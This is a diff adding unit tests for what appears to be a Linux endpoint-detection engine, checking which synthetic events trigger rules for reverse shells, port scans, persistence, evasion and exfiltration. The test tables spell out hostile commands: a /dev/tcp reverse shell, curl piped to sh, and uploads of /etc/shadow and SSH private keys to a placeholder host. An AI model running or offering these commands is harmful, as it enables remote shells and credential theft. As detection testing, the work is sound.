@@ -348,6 +348,8 @@ Test(detect, malformed_rules_are_refused_with_position)
 	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: X1\nquery:\nDeviceInfo\n",
 		 "mitre 'X1' is not an ATT&CK technique");
 	bad_rule("title: t\nseverity: Low\ncolour: c\n", "bad.rule:3:1: unknown key 'colour'");
+	bad_rule("title: t\nseverity: Low\nwindow: 10 minutes\n",
+		 "bad.rule:3:9: '10 minutes' is not a duration");
 	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: T1000\n", "no 'query:' section");
 	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: T1000\nquery:\n"
 		 "DeviceProcessEvents | project FileName\n",
@@ -385,4 +387,317 @@ Test(detect, rule_for_a_missing_table_waits_for_it)
 	vg_detect_nrules(d2, &waiting);
 	cr_expect_eq(waiting, 0);
 	vg_detect_close(d2);
+}
+
+/* A connection attempt by pid (child of ppid) at ts (NULL: now). */
+static void probe(const char *ts, const char *ip, int port, int pid, const char *by, int ppid,
+		  const char *parent_by)
+{
+	sql("INSERT INTO DeviceNetworkEvents (Timestamp, DeviceId, ActionType, ReportId, RemoteIP,"
+	    " RemotePort, Protocol, InitiatingProcessId, InitiatingProcessFileName,"
+	    " InitiatingProcessParentId, InitiatingProcessParentFileName) VALUES"
+	    " (%s, 'd1', 'ConnectionAttempt', %d, %Q, %d, 'Tcp', %d, %Q, %d, %Q)",
+	    ts ? sqlite3_mprintf("%Q", ts) : "strftime('%Y-%m-%dT%H:%M:%fZ', 'now')", ++report_id,
+	    ip, port, pid, by, ppid, parent_by);
+}
+
+static long long alert_col(const char *rule, const char *col)
+{
+	return qint("SELECT %s FROM AlertInfo WHERE RuleId = '%s'", col, rule);
+}
+
+/*
+ * The probes of a loop of subshells (each a bash whose parent is the loop's
+ * bash) are one process tree: one alert, every probe its evidence, counted.
+ */
+Test(detect, subshells_of_one_shell_are_one_alert_with_a_count)
+{
+	for (int i = 0; i < 30; i++)
+		probe("2026-11-29T10:00:00.000Z", "10.0.0.9", 4444, 500 + i, "bash", 400, "bash");
+	/* the loop's shell itself, and another tree */
+	probe("2026-11-29T10:01:00.000Z", "10.0.0.9", 4444, 400, "bash", 300, "sshd");
+	probe("2026-11-29T10:01:00.000Z", "10.0.0.9", 4444, 900, "bash", 800, "sshd");
+	cr_assert_eq(vg_detect_run(det), 2);
+	cr_expect_eq(alerts("reverse_shell_net"), 2);
+	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE RuleId = 'reverse_shell_net'"
+			  " AND rowid = (SELECT min(rowid) FROM AlertInfo)"),
+		     31);
+	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence WHERE AlertId = 'vg00000001'"), 31);
+	cr_expect_eq(qint("SELECT count(*) FROM AlertInfo WHERE AlertId = 'vg00000001' AND"
+			  " FirstActivity = '2026-11-29T10:00:00.000Z' AND"
+			  " LastActivity = '2026-11-29T10:01:00.000Z'"),
+		     1);
+	/* 9 minutes later: the same alert; 11 minutes after its first: a new one */
+	probe("2026-11-29T10:09:59.000Z", "10.0.0.9", 4444, 531, "bash", 400, "bash");
+	cr_assert_eq(vg_detect_run(det), 0);
+	probe("2026-11-29T10:10:00.000Z", "10.0.0.9", 4444, 532, "bash", 400, "bash");
+	cr_assert_eq(vg_detect_run(det), 1);
+	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE AlertId = 'vg00000001'"), 32);
+	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE AlertId = 'vg00000003'"), 1);
+}
+
+/*
+ * Loopback probes are no reverse shell; 20 ports of one address by one tree
+ * are a port scan whose evidence is every attempt, those of earlier runs too.
+ */
+Test(detect, port_scan_counts_every_probe_and_a_probe_is_no_reverse_shell)
+{
+	for (int i = 0; i < 19; i++)
+		probe(NULL, "127.0.0.1", 1000 + i, 600 + i, "bash", 599, "bash");
+	probe(NULL, "::1", 5432, 700, "bash", 1, "make");
+	/* 19 ports, and 20 ports by different trees */
+	for (int i = 0; i < 20; i++)
+		probe(NULL, "127.0.0.1", 2000 + i, 800 + i, "nc", 799 + i, "bash");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+	probe(NULL, "127.0.0.1", 1019, 619, "bash", 599, "bash");
+	probe(NULL, "127.0.0.1", 1019, 620, "bash", 599, "bash");
+	cr_assert_eq(vg_detect_run(det), 1);
+	cr_expect_eq(alerts("port_scan"), 1);
+	cr_expect_eq(alert_col("port_scan", "EvidenceCount"), 21);
+	cr_expect_eq(qint("SELECT count(DISTINCT SourceRowId) FROM AlertEvidence"), 21);
+	probe(NULL, "127.0.0.1", 1020, 621, "bash", 599, "bash");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(alert_col("port_scan", "EvidenceCount"), 22);
+	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence"), 22);
+}
+
+static void exec_ev(const char *folder, const char *cmd, const char *fields)
+{
+	int id = ++report_id;
+
+	sql("INSERT INTO DeviceProcessEvents (Timestamp, DeviceId, ActionType, ReportId, FileName,"
+	    " FolderPath, ProcessId, ProcessCommandLine, InitiatingProcessId,"
+	    " InitiatingProcessFileName, AdditionalFields) VALUES (" NOW ", 'd1', 'ProcessCreated',"
+	    " %d, %Q, %Q, %d, %Q, %d, 'x', %Q)",
+	    id, strrchr(folder, '/') + 1, folder, 3000 + id, cmd, 2000 + id, fields);
+}
+
+Test(detect, reverse_shell_near_misses)
+{
+	static const char sock[] = "{\"StdinSocket\":true,\"StdoutSocket\":true}";
+
+	/* a wrapper script and a -c command serving a socket; probes; a socket on stdin only */
+	exec_ev("/bin/sh", "/bin/sh /opt/vigil/wrapper --transport stdio", sock);
+	exec_ev("/bin/sh", "/bin/sh -c 'exec /opt/vigil/vigild'", sock);
+	exec_ev("/bin/bash", "bash", "{\"StdinSocket\":true}");
+	exec_ev("/bin/bash", "bash -c 'echo > /dev/tcp/127.0.0.1/5432'", "{}");
+	exec_ev("/bin/bash", "bash -c '< /dev/tcp/db/5432'", "{}");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+
+	exec_ev("/bin/sh", "sh", sock);
+	exec_ev("/bin/bash", "bash -li", sock);
+	exec_ev("/bin/bash", "bash -c 'exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | sh >&5'", "{}");
+	cr_assert_eq(vg_detect_run(det), 3);
+	cr_expect_eq(alerts("reverse_shell_stdio"), 2);
+	cr_expect_eq(alerts("reverse_shell"), 1);
+}
+
+Test(detect, exec_from_tmp_spares_what_a_linker_wrote)
+{
+	fileev("d1", "FileCreated", "/tmp/b/tests/unit_tests", "x86_64-linux-gnu-ld.bfd");
+	fileev("d1", "FileCreated", "/tmp/conftest", "collect2");
+	proc("d1", "ProcessCreated", "/tmp/b/tests/unit_tests", "./tests/unit_tests", "make");
+	proc("d1", "ProcessCreated", "/tmp/conftest", "./conftest", "sh");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+	/* written by anything else, or by a linker on another path */
+	fileev("d1", "FileCreated", "/tmp/dropper", "python3");
+	fileev("d1", "FileCreated", "/tmp/ld", "curl");
+	proc("d1", "ProcessCreated", "/tmp/dropper", "/tmp/dropper", "bash");
+	proc("d1", "ProcessCreated", "/tmp/ld", "/tmp/ld", "bash");
+	proc("d1", "ProcessCreated", "/tmp/b/tests/unit_tests2", "x", "bash");
+	cr_assert_eq(vg_detect_run(det), 3);
+}
+
+Test(detect, a_refused_load_is_an_attempt)
+{
+	sql("INSERT INTO DeviceEvents (Timestamp, DeviceId, ActionType, ReportId,"
+	    " InitiatingProcessId, InitiatingProcessFileName, AdditionalFields) VALUES"
+	    " (" NOW ", 'd1', 'KernelModuleLoad', 1, 50, 'insmod', '{\"Result\":-2}'),"
+	    " (" NOW ", 'd1', 'KernelModuleLoad', 2, 50, 'insmod', '{\"Result\":-17}'),"
+	    " (" NOW ", 'd1', 'KernelModuleLoad', 3, 51, 'insmod', '{\"Result\":0}')");
+	cr_assert_eq(vg_detect_run(det), 2);
+	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE RuleId = "
+			  "'kernel_load_attempt' AND Title LIKE '%%attempted%%'"),
+		     2);
+	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE RuleId = 'kernel_load' AND"
+			  " Title = 'Kernel module or BPF program loaded'"),
+		     1);
+}
+
+/* A store whose AlertInfo predates the count columns gets them. */
+Test(detect, an_older_alert_table_gets_the_new_columns)
+{
+	struct vg_sb why;
+
+	vg_detect_close(det);
+	sql("DROP TABLE AlertInfo");
+	sql("CREATE TABLE AlertInfo (Timestamp TEXT NOT NULL, AlertId TEXT, Title TEXT NOT NULL,"
+	    " Category TEXT, Severity TEXT, DetectionSource TEXT, AttackTechniques TEXT,"
+	    " RuleId TEXT, DeviceId TEXT, DeviceName TEXT, Description TEXT,"
+	    " GroupKey TEXT NOT NULL UNIQUE)");
+	vg_sb_init(&why);
+	cr_assert_eq(vg_detect_open(&det, db, "rules", &why), 0, "%s", vg_sb_str(&why));
+	vg_sb_free(&why);
+	proc("d1", "ProcessCreated", "/tmp/one", "one", "bash");
+	cr_assert_eq(vg_detect_run(det), 1);
+	cr_expect_eq(alert_col("exec_from_tmp", "EvidenceCount"), 1);
+}
+
+/* A file event on d1 by the program by, with AdditionalFields fields. */
+static void filef(const char *action, const char *folder, const char *by, const char *fields)
+{
+	sql("INSERT INTO DeviceFileEvents (Timestamp, DeviceId, ActionType, ReportId, FileName,"
+	    " FolderPath, InitiatingProcessFileName, AdditionalFields) VALUES"
+	    " (" NOW ", 'd1', %Q, %d, %Q, %Q, %Q, %Q)",
+	    action, ++report_id, strrchr(folder, '/') + 1, folder, by, fields);
+}
+
+/* Each file rule: what fires, and the package manager or tool that does it for a living. */
+Test(detect, persistence_and_evasion_file_rules)
+{
+	static const struct {
+		const char *rule, *action, *path, *by, *fields;
+	} miss[] = {
+		{ "persist_cron", "FileCreated", "/etc/cron.d/certbot", "dpkg", "{}" },
+		{ "persist_cron", "FileModified", "/var/spool/cron/crontabs/u", "crontab", "{}" },
+		{ "persist_cron", "FileCreated", "/etc/cron.dx", "sh", "{}" },
+		{ "persist_systemd", "FileCreated", "/lib/systemd/system/ssh.service", "dpkg",
+		  "{}" },
+		{ "persist_systemd", "FileCreated", "/etc/systemd/system/x.wants", "sh", "{}" },
+		{ "persist_shell_profile", "FileModified", "/home/u/.bashrc.swp", "vim", "{}" },
+		{ "persist_authorized_keys", "FileModified", "/home/u/.ssh/known_hosts", "ssh",
+		  "{}" },
+		{ "persist_ld_preload", "FileModified", "/etc/ld.so.conf", "sh", "{}" },
+		{ "persist_pam", "FileModified", "/etc/pam.d/common-auth", "pam-auth-update",
+		  "{}" },
+		{ "persist_passwd_write", "FileRenamed", "/etc/passwd", "useradd", "{}" },
+		{ "persist_passwd_write", "FileModified", "/etc/passwd-", "sh", "{}" },
+		{ "privesc_setid_chmod", "FileModeChanged", "/tmp/x", "chmod",
+		  "{\"Mode\":\"0755\"}" },
+		{ "privesc_setid_chmod", "FileModeChanged", "/usr/bin/su", "dpkg",
+		  "{\"Mode\":\"4755\"}" },
+		{ "privesc_setid_chmod", "FileModeChanged", "/var/lib/shared", "chmod",
+		  "{\"Mode\":\"2750\"}" },
+		{ "evasion_history", "FileModified", "/home/u/.bash_history", "bash",
+		  "{\"OpenFlags\":1089}" }, /* O_WRONLY|O_CREAT|O_APPEND: bash saving it */
+		{ "evasion_history", "FileCreated", "/home/u/.bash_history", "bash", "{}" },
+		{ "evasion_log_tamper", "FileDeleted", "/var/log/syslog", "logrotate", "{}" },
+		{ "evasion_log_tamper", "FileModified", "/var/log/auth.log", "rsyslogd",
+		  "{\"OpenFlags\":1089}" },
+		{ "evasion_log_tamper", "FileDeleted", "/var/log/syslog.2.gz", "sh", "{}" },
+		{ "evasion_aslr", "FileModified", "/proc/sys/kernel/randomize_va_space2", "sh",
+		  "{}" },
+	};
+	static const struct {
+		const char *rule, *action, *path, *by, *fields;
+	} hit[] = {
+		{ "persist_cron", "FileCreated", "/etc/cron.d/update", "bash", "{}" },
+		{ "persist_cron", "FileRenamed", "/var/spool/cron/crontabs/root", "python3", "{}" },
+		{ "persist_systemd", "FileCreated", "/etc/systemd/system/backdoor.service", "sh",
+		  "{}" },
+		{ "persist_systemd", "FileCreated", "/home/u/.config/systemd/user/x.timer", "cp",
+		  "{}" },
+		{ "persist_shell_profile", "FileModified", "/home/u/.bashrc", "sh", "{}" },
+		{ "persist_shell_profile", "FileCreated", "/etc/profile.d/x.sh", "tee", "{}" },
+		{ "persist_authorized_keys", "FileModified", "/root/.ssh/authorized_keys", "sh",
+		  "{}" },
+		{ "persist_ld_preload", "FileCreated", "/etc/ld.so.preload", "dpkg", "{}" },
+		{ "persist_pam", "FileModified", "/etc/pam.d/sshd", "sed", "{}" },
+		{ "persist_pam", "FileCreated", "/lib/x86_64-linux-gnu/security/pam_x.so", "cp",
+		  "{}" },
+		{ "persist_passwd_write", "FileModified", "/etc/passwd", "sh", "{}" },
+		{ "privesc_setid_chmod", "FileModeChanged", "/tmp/rootsh", "chmod",
+		  "{\"Mode\":\"4755\"}" },
+		{ "privesc_setid_chmod", "FileModeChanged", "/tmp/suidgid", "python3",
+		  "{\"Mode\":\"6711\"}" },
+		{ "evasion_history", "FileDeleted", "/root/.bash_history", "rm", "{}" },
+		{ "evasion_history", "FileModified", "/home/u/.zsh_history", "sh",
+		  "{\"OpenFlags\":577}" }, /* O_WRONLY|O_CREAT|O_TRUNC */
+		{ "evasion_log_tamper", "FileDeleted", "/var/log/wtmp", "rm", "{}" },
+		{ "evasion_log_tamper", "FileModified", "/var/log/auth.log", "sh",
+		  "{\"OpenFlags\":577}" },
+		{ "evasion_aslr", "FileModified", "/proc/sys/kernel/randomize_va_space", "sh",
+		  "{}" },
+	};
+
+	for (size_t i = 0; i < sizeof(miss) / sizeof(miss[0]); i++)
+		filef(miss[i].action, miss[i].path, miss[i].by, miss[i].fields);
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0, "%s",
+		     sqlite3_mprintf("%lld", qint("SELECT count(*) FROM AlertInfo")));
+	for (size_t i = 0; i < sizeof(hit) / sizeof(hit[0]); i++) {
+		long long before = alerts(hit[i].rule);
+
+		filef(hit[i].action, hit[i].path, hit[i].by, hit[i].fields);
+		cr_assert_geq(vg_detect_run(det), 0);
+		cr_expect_eq(alerts(hit[i].rule), before + 1, "%s: %s by %s", hit[i].rule,
+			     hit[i].path, hit[i].by);
+	}
+	cr_expect_eq(total_alerts(), (long long)(sizeof(hit) / sizeof(hit[0])));
+}
+
+/* Each command-line rule: what fires, and what looks close and must not. */
+Test(detect, command_line_rules)
+{
+	static const struct {
+		const char *rule, *path, *cmd;
+	} miss[] = {
+		{ "persist_uid0_account", "/usr/sbin/useradd", "useradd -u 1001 bob" },
+		{ "persist_uid0_account", "/usr/sbin/usermod", "usermod -u 10 -G wheel bob" },
+		{ "evasion_history_cmdline", "/bin/bash", "bash -c 'history | tail'" },
+		{ "evasion_aslr_cmdline", "/usr/sbin/sysctl", "sysctl kernel.randomize_va_space" },
+		{ "evasion_aslr_cmdline", "/usr/bin/setarch", "setarch x86_64 --uname-2.6 ./a" },
+		{ "evasion_masquerade", "/usr/sbin/sshd", "sshd -D" },
+		{ "evasion_masquerade", "/home/u/build/sshd-test", "./sshd-test" },
+		{ "evasion_masquerade", "/usr/bin/python3", "python3 kworker.py [kworker/0:1]" },
+		{ "exec_pipe_to_shell", "/bin/sh",
+		  "sh -c 'curl -o x.tgz https://x/y && tar xf x.tgz'" },
+		{ "exec_pipe_to_shell", "/bin/bash", "bash -c 'curl -s https://x | jq .'" },
+		{ "exec_base64_script", "/bin/sh", "sh -c 'base64 -d key.b64 > key'" },
+		{ "exec_base64_script", "/bin/sh", "sh -c 'echo aGk= | base64 -d | shasum'" },
+		{ "exfil_cmdline", "/usr/bin/curl", "curl -o out.tar https://x/y" },
+		{ "exfil_cmdline", "/usr/bin/curl",
+		  "curl --data-binary @enroll.json https://127.0.0.1:4443/v1/enroll" },
+		{ "exfil_cmdline", "/usr/bin/curl", "curl -F name=value https://x/form" },
+	};
+	static const struct {
+		const char *rule, *path, *cmd;
+	} hit[] = {
+		{ "persist_uid0_account", "/usr/sbin/useradd", "useradd -o -u 0 -g 0 toor" },
+		{ "persist_uid0_account", "/usr/sbin/usermod", "usermod --uid=0 -o bob" },
+		{ "evasion_history_cmdline", "/bin/bash", "bash -c 'history -c'" },
+		{ "evasion_history_cmdline", "/bin/sh", "sh -c 'unset HISTFILE; id'" },
+		{ "evasion_aslr_cmdline", "/usr/sbin/sysctl",
+		  "sysctl -w kernel.randomize_va_space=0" },
+		{ "evasion_aslr_cmdline", "/usr/bin/setarch", "setarch x86_64 -R ./vuln" },
+		{ "evasion_masquerade", "/tmp/.x/sshd", "sshd -D" },
+		{ "evasion_masquerade", "/home/u/miner", "[kworker/0:1]" },
+		{ "exec_pipe_to_shell", "/bin/sh", "sh -c 'curl -fsSL https://x/i.sh | sh'" },
+		{ "exec_pipe_to_shell", "/bin/bash", "bash -c 'wget -qO- http://x/a | sudo bash'" },
+		{ "exec_pipe_to_shell", "/bin/bash", "bash -c \"$(curl -fsSL https://x/i.sh)\"" },
+		{ "exec_base64_script", "/bin/sh", "sh -c 'echo aWQK | base64 -d | sh'" },
+		{ "exec_base64_script", "/usr/bin/python3",
+		  "python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'" },
+		{ "exfil_cmdline", "/usr/bin/curl", "curl -T /etc/passwd https://x/up" },
+		{ "exfil_cmdline", "/usr/bin/curl", "curl -F f=@/root/.ssh/id_rsa https://x/u" },
+		{ "exfil_cmdline", "/usr/bin/wget", "wget --post-file=/etc/shadow http://x/" },
+	};
+
+	for (size_t i = 0; i < sizeof(miss) / sizeof(miss[0]); i++)
+		proc("d1", "ProcessCreated", miss[i].path, miss[i].cmd, "bash");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+	for (size_t i = 0; i < sizeof(hit) / sizeof(hit[0]); i++) {
+		long long before = alerts(hit[i].rule);
+
+		proc("d1", "ProcessCreated", hit[i].path, hit[i].cmd, "bash");
+		cr_assert_geq(vg_detect_run(det), 0);
+		cr_expect_eq(alerts(hit[i].rule), before + 1, "%s: %s", hit[i].rule, hit[i].cmd);
+	}
+	/* /tmp/.x/sshd also ran from /tmp; curl -F ...id_rsa also names a key */
+	cr_expect_eq(total_alerts(), (long long)(sizeof(hit) / sizeof(hit[0])) + 2);
+	cr_expect_eq(alerts("exec_from_tmp") + alerts("credential_files_cmdline"), 2);
 }
